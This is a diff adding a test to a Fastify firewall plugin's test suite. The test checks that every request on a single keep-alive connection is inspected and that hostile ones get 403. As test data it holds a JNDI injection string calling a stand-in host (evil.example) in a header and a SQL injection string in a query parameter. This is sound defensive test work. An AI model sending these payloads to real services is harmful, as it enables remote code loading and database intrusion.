@@ -1,3 +1,4 @@
+import http from 'node:http';
 import Fastify, { type FastifyInstance } from 'fastify';
 import { afterEach, describe, expect, it } from 'vitest';
 import { firewallPlugin, type FirewallPluginOptions } from './firewall.plugin.js';
@@ -142,5 +143,36 @@ describe('firewallPlugin', () => {
       JSON.stringify({ note: 'x'.repeat(1_100_000) }),
     );
     expect(response.statusCode).toBe(413);
+  });
+
+  it('judges every request on one connection, reusing a verdict only for a byte-identical request', async () => {
+    const server = await build();
+    const base = await server.listen({ host: '127.0.0.1', port: 0 });
+    const agent = new http.Agent({ keepAlive: true, maxSockets: 1 });
+    const ports = new Set<number>();
+    const get = (path: string, headers: Record<string, string> = {}) =>
+      new Promise<number>((resolve, reject) => {
+        const request = http.get(`${base}${path}`, { agent, headers }, (response) => {
+          response.resume();
+          response.on('end', () => resolve(response.statusCode ?? 0));
+        });
+        request.on('socket', (socket) => socket.once('connect', () => ports.add(socket.localPort ?? 0)));
+        request.on('error', reject);
+      });
+    try {
+      const statuses = [
+        await get('/api/v1/assets?search=tech'),
+        await get('/api/v1/assets?search=tech'),
+        await get('/api/v1/assets?search=tech', { 'x-api-version': '${jndi:ldap://evil.example/a}' }),
+        await get('/api/v1/assets?search=tech'),
+        await get("/api/v1/assets?search=1' or '1'='1"),
+        await get("/api/v1/assets?search=1' or '1'='1"),
+      ];
+      expect(ports.size).toBe(1); // one connection carried them all
+      expect(statuses).toEqual([200, 200, 403, 200, 403, 403]);
+      expect(server.firewall.counters).toMatchObject({ inspected: 6, blocked: 3 });
+    } finally {
+      agent.destroy();
+    }
   });
 });
